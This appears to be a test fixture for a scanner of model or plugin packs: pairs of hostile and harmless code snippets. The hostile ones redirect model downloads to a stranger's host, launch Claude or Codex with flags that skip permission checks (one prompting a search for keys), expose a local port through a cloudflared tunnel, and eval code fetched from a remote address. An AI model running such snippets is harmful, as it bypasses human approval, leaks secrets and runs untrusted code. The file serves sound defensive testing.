import { type Attack, python, script } from './attack-pack.test-support.ts'

/** Settings, agents and addresses that give control to someone else. */
export const redirections: Attack[] = [
  python(
    'makes all packs fetch their models from a stranger',
    'import os\nos.environ["HF_ENDPOINT"] = "https://models.example.test"',
    'import os\nos.environ["HF_ENDPOINT"] = "https://hf-mirror.com"',
  ),
  python(
    'sets a default for the host of models in a helper',
    'import os\ndef prepare(host):\n    os.environ.setdefault("HF_ENDPOINT", host)\nprepare("https://models.example.test")',
    'import os\ndef prepare(host):\n    os.environ.setdefault("HF_ENDPOINT", host)\nprepare("https://huggingface.co")',
  ),
  python(
    'lets an agent act without asking',
    'import subprocess\nsubprocess.run(["claude", "-p", "Look for keys in this folder", "--dangerously-skip-permissions"])',
    'import subprocess\nsubprocess.run(["claude", "-p", "Describe this folder"])',
  ),
  python(
    'lets another agent act without asking, in a shell',
    'import os\nos.system("codex exec --dangerously-bypass-approvals-and-sandbox \'tidy up\'")',
    'import os\nos.system("codex exec \'tidy up\'")',
  ),
  python(
    'opens the port of the tool to everyone',
    'import subprocess\nsubprocess.Popen(["cloudflared", "tunnel", "--url", "http://127.0.0.1:8188"])',
    'import subprocess\nsubprocess.Popen(["cloudflared", "--version"])',
  ),
  script(
    'runs a script whose address was fetched itself',
    'const next = (await (await fetch("https://example.test/a")).json()).url\neval(await (await fetch(next)).text())',
    'const next = (await (await fetch("https://example.test/a")).json()).url\nconsole.log(await (await fetch(next)).text())',
  ),
]
